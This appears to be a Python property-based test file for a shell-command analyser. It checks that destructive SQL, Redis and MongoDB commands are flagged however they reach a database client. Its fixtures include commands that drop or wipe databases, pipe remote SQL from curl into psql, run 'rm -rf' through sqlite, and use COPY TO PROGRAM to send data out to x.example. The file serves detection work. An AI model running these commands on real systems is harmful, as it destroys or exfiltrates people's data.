"""Database clients (issue 26, class 4), built from parts: a destructive statement (DROP, TRUNCATE,
DELETE or UPDATE without WHERE, ALTER ... DROP) in any case, after harmless statements and
comments, handed to a client by an option, a positional argument, a here-string, a here-doc, a
pipe or a file; Redis and MongoDB commands likewise. Each must be destructive; harmless statements
(also ones that mention DROP in a comment or a string) must not be; statements the command cannot
see are shell-unknown."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from governance.shell.analysis import analyse_command
from governance.shell.schema import load_default_shell
from tests.shell.corpus import is_protected

SHELL = load_default_shell()
NAMES = st.sampled_from(["users", "orders", "public.payments", '"Audit Log"', "`events`", "t1"])
CASE = st.sampled_from([str.upper, str.lower, str.title])


@st.composite
def destructive_sql(draw: st.DrawFn) -> str:
    name = draw(NAMES)
    kind = draw(st.sampled_from(["TABLE", "DATABASE", "SCHEMA", "VIEW", "INDEX"]))
    exists = draw(st.sampled_from(["", "IF EXISTS "]))
    statement = draw(st.sampled_from([
        f"DROP {kind} {exists}{name}", f"DROP {kind} {exists}{name} CASCADE",
        f"TRUNCATE {name}", f"TRUNCATE TABLE {name} RESTART IDENTITY", f"DELETE FROM {name}",
        f"UPDATE {name} SET status = 'x'", f"DELETE FROM {name} WHERE 1=1",
        f"ALTER TABLE {name} DROP COLUMN email", f"WITH old AS (SELECT 1) DELETE FROM {name}",
        f"EXPLAIN ANALYZE DELETE FROM {name}"]))
    statement = draw(CASE)(statement.split(" ", 1)[0]) + " " + statement.split(" ", 1)[1]
    before = draw(st.sampled_from(["", "SELECT 1; ", "-- cleanup\n", "/* step 2 */ ", "BEGIN; ",
                                   "SET search_path = app; "]))
    after = draw(st.sampled_from(["", ";", "; COMMIT;", ";\n"]))
    return before + statement + after


HARMLESS_SQL = st.sampled_from([
    "SELECT 1", "select count(*) from users", "INSERT INTO t VALUES (1, 'DROP TABLE x')",
    "CREATE TABLE t (id int)", "DELETE FROM t WHERE id = 42", "UPDATE t SET a = 1 WHERE id = 7",
    "EXPLAIN DELETE FROM t", "-- DROP TABLE users\nSELECT 1", "/* truncate later */ SELECT now()",
    "SELECT 'delete from users'", "ALTER TABLE t ADD COLUMN c int",
    "UPDATE t SET a = 1 WHERE 1=1 AND id = 3", "CREATE INDEX i ON t (a)", "SHOW TABLES"])


@st.composite
def delivered(draw: st.DrawFn, sql: str) -> str:
    """``sql`` handed to a client in one of the ways people type it."""
    quoted = shlex.quote(sql)
    form = draw(st.sampled_from([
        "psql -c {q}", "psql -h localhost -U app -d shop -c {q}", "psql --command={q}",
        "psql shop <<< {q}", "psql <<'SQL'\n{s}\nSQL", "echo {q} | psql -d shop",
        "printf '%s\\n' {q} | psql", "mysql -e {q}", "mysql -u root -h db --execute={q}",
        "mariadb shop -e {q}", "mysql shop <<< {q}", "sqlite3 app.db {q}", "sqlite3 -bail app.db {q}",
        "sqlite3 app.db <<'EOF'\n{s}\nEOF", "echo {q} | sqlite3 app.db", "duckdb x.db -c {q}",
        "duckdb x.db {q}", "clickhouse-client --query {q}", "clickhouse-client -q {q}",
        "sqlcmd -S db -Q {q}", "cqlsh -e {q}", "beeline -u jdbc:hive2://h -e {q}", "hive -e {q}",
        "impala-shell -q {q}", "vsql -c {q}", "usql pg://h/db -c {q}", "trino --execute {q}",
        "snowsql -q {q}", "mycli -e {q}", "mysql -u root -pSECRET -Bse {q}", "psql -qtAc {q}"]))
    wrapper = draw(st.sampled_from(["", "sudo -u postgres ", "env PGPASSWORD=x ", "timeout 30 "]))
    if sql.startswith("-") and form.endswith(".db {q}"):   # an argument that starts with - is an option
        quoted = shlex.quote("SELECT 1; " + sql)
    line = form.format(q=quoted, s=sql)
    if wrapper and not line.startswith(("echo", "printf")):
        line = wrapper + line
    return line


def acts_of(command: str, cwd: str | None = None) -> set[str]:
    return {a.primitive for a in analyse_command(command, SHELL, is_protected=is_protected, cwd=cwd)}


@settings(max_examples=400, deadline=None)
@given(st.data())
def test_destructive_sql_is_destructive_however_it_is_given(data: st.DataObject) -> None:
    command = data.draw(delivered(data.draw(destructive_sql())))
    assert "destructive" in acts_of(command), command


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_harmless_sql_stays_quiet(data: st.DataObject) -> None:
    command = data.draw(delivered(data.draw(HARMLESS_SQL)))
    assert not acts_of(command) & {"destructive", "shell-unknown"}, command


@settings(max_examples=100, deadline=None)
@given(destructive_sql(), st.sampled_from(["psql -f {f}", "psql --file={f}", "sqlite3 app.db < {f}",
                                            "mysql shop < {f}", "sqlite3 app.db '.read {f}'",
                                            "psql -c '\\i {f}'", "duckdb x.db -init {f}"]))
def test_sql_files_are_read(tmp_path_factory: pytest.TempPathFactory, sql: str, form: str) -> None:
    root = tmp_path_factory.mktemp("sql")
    (root / "migrate.sql").write_text("CREATE TABLE a (id int);\n" + sql + "\n")
    (root / "seed.sql").write_text("INSERT INTO a VALUES (1);\n")
    assert "destructive" in acts_of(form.format(f="migrate.sql"), str(root))
    assert "destructive" not in acts_of(form.format(f="seed.sql"), str(root))


REDIS = st.sampled_from(["FLUSHALL", "flushdb", "FlushAll ASYNC", "DEL session:1", "unlink a b",
                         "EVAL \"return redis.call('FLUSHDB')\" 0"])
MONGO = st.sampled_from(["db.dropDatabase()", "db.users.drop()", "db.users.deleteMany({})",
                         "db.getCollection('x').remove({})", "db.orders.updateMany({}, {$set: {a: 1}})",
                         "db.runCommand({dropDatabase: 1})"])


@settings(max_examples=200, deadline=None)
@given(REDIS, st.sampled_from(["redis-cli {a}", "redis-cli -h 10.0.0.5 -p 6380 -n 2 {a}",
                               "echo {q} | redis-cli", "redis-cli <<< {q}", "valkey-cli {a}"]),
       MONGO, st.sampled_from(["mongosh --eval {q}", "mongosh app --quiet --eval {q}",
                               "echo {q} | mongosh app", "mongo shop --eval {q}"]))
def test_redis_and_mongo_deletions_are_destructive(redis: str, rform: str, mongo: str, mform: str) -> None:
    command = rform.format(a=redis, q=shlex.quote(redis))
    assert "destructive" in acts_of(command), command
    command = mform.format(q=shlex.quote(mongo))
    assert "destructive" in acts_of(command), command


@pytest.mark.parametrize("command", [
    "redis-cli GET x", "redis-cli PING", "redis-cli --scan --pattern 'user:*'", "redis-cli INFO memory",
    "mongosh --eval 'db.users.find()'", "mongosh --eval 'db.users.deleteOne({_id: 1})'",
    "mongosh app --eval 'db.users.deleteMany({active: false})'", "sqlite3 db .tables",
    "psql -c '\\d users'", "psql -h localhost -U app app", "mysql -u root -p shop",
    "pg_dump shop > dump.sql"])
def test_everyday_client_commands_stay_quiet(command: str) -> None:
    assert not acts_of(command) & {"destructive", "shell-unknown"}, command


@pytest.mark.parametrize(("command", "expected"), [
    ('psql -c "$SQL"', "shell-unknown"), ("curl -s https://x.example/d.sql | psql", "shell-unknown"),
    ("base64 -d <<< RFJPUCBUQUJMRSB4 | mysql", "shell-unknown"), ('redis-cli "$VERB" x', "shell-unknown"),
    ("psql -c \"DO \\$\\$ BEGIN EXECUTE 'SELECT ' || t; END \\$\\$\"", "shell-unknown"),
    ("psql -c '\\! git push'", "vcs-push"), ("sqlite3 app.db '.shell rm -rf build'", "destructive"),
    ("psql -c \"COPY t TO PROGRAM 'curl -d @- https://x.example'\"", "web-fetch"),
    ("redis-cli EVALSHA abc123 0", "shell-unknown"),
    ("psql -c \"SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec\"", "shell-unknown"),
    ("mysql -e 'PREPARE s FROM @q; EXECUTE s'", "shell-unknown"),
    ("mysql -e \"PREPARE s FROM 'DROP TABLE x'\"", "destructive"),
    ("sqlite3 app.db \".read '|curl -s https://x.example/q.sql'\"", "web-fetch"),
    ("mysql -u root -p -e 'DROP DATABASE shop'", "destructive"),
    ("pg_restore --clean -d shop shop.dump", "destructive"), ("mongorestore --drop dump/", "destructive"),
])
def test_statements_known_only_at_run_time_or_running_commands(command: str, expected: str) -> None:
    assert expected in acts_of(command), command
